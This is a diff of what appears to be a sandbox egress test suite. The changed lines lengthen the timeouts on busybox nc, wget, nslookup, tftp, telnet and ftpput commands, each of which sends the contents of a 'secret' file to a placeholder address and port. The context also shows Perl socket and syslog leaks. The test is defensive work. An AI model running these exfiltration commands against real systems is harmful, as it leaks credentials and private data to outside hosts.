@@ -103,12 +103,12 @@ except OSError: print("nobody")`;
             `socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${PORT}, inet_aton("${ADDRESS}"))) and syswrite(S, "${SECRET}")`,
           ),
         ),
-        shell("busybox nc", `busybox nc -w 2 ${ADDRESS} ${PORT} < secret`),
-        shell("busybox wget", `busybox wget -T 2 -O - "http://${ADDRESS}:${PORT}/$(cat secret)"`),
-        shell("busybox nslookup", `timeout 5 busybox nslookup "$(cat secret).example.org" ${ADDRESS}`),
+        shell("busybox nc", `busybox nc -w 20 ${ADDRESS} ${PORT} < secret`),
+        shell("busybox wget", `busybox wget -T 20 -O - "http://${ADDRESS}:${PORT}/$(cat secret)"`),
+        shell("busybox nslookup", `timeout 20 busybox nslookup "$(cat secret).example.org" ${ADDRESS}`),
         shell(
           "busybox tftp, telnet, ftpput",
-          `timeout 5 busybox tftp -p -l secret ${ADDRESS} ${PORT}; timeout 5 busybox telnet ${ADDRESS} ${PORT} < secret; timeout 5 busybox ftpput ${ADDRESS} x secret`,
+          `timeout 20 busybox tftp -p -l secret ${ADDRESS} ${PORT}; timeout 20 busybox telnet ${ADDRESS} ${PORT} < secret; timeout 20 busybox ftpput ${ADDRESS} x secret`,
         ),
         shell("busybox syslog", `busybox logger "$(cat secret)"; busybox dmesg -n 8`, null),
         ...["http", "telnet", "dict", "gopher", "ldap", "smtp", "rtsp", "mqtt", "tftp", "ftp"].map(
